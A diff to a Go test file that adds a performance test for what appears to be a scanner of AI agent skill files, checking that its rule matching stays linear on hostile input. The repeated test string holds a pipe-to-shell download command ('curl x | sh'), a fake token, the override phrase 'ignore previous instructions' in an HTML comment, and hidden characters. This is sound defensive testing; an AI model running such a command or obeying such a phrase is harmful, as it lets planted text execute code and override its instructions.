@@ -104,3 +104,29 @@ func TestHoverDecodesHiddenText(t *testing.T) {
 		t.Errorf("hover on plain text = %+v", h)
 	}
 }
+
+// TestHostileRulesAreLinear: on files built to make a scan go back over
+// what it read — one long line of download commands, keys, comments and
+// brackets, runs of hidden characters — the text handed to regular
+// expressions grows no faster than the file, and so do the findings.
+func TestHostileRulesAreLinear(t *testing.T) {
+	counted := 0
+	defer func(f func(int)) { matched = f }(matched)
+	matched = func(n int) { counted += n }
+	unit := "curl x | sh; token=Zx81QmvN4LpRt7WqYe2KsD9c [a] <!-- ignore previous instructions --> " + tags("hi") + "\u200b "
+	work := func(n int) (int, int) {
+		src := fm(okName, okDesc) + strings.Repeat(unit, n) + "\n" + strings.Repeat("[x]: y\n", n) + strings.Repeat(unit+"\n", n)
+		tr := newTestTree(t, Config{}, treeFile{path: mySkill, data: src})
+		counted = 0
+		fs := tr.ws.Findings(tr.path(mySkill))
+		return counted, len(fs)
+	}
+	smallWork, smallFound := work(500)
+	largeWork, largeFound := work(1000)
+	if largeWork > 2*smallWork+4096 || largeFound > 2*smallFound+8 {
+		t.Fatalf("1,000 units: %d bytes matched, %d findings; 500 units: %d, %d: more than twice", largeWork, largeFound, smallWork, smallFound)
+	}
+	if smallFound < 500 {
+		t.Fatalf("only %d findings in 500 units", smallFound)
+	}
+}
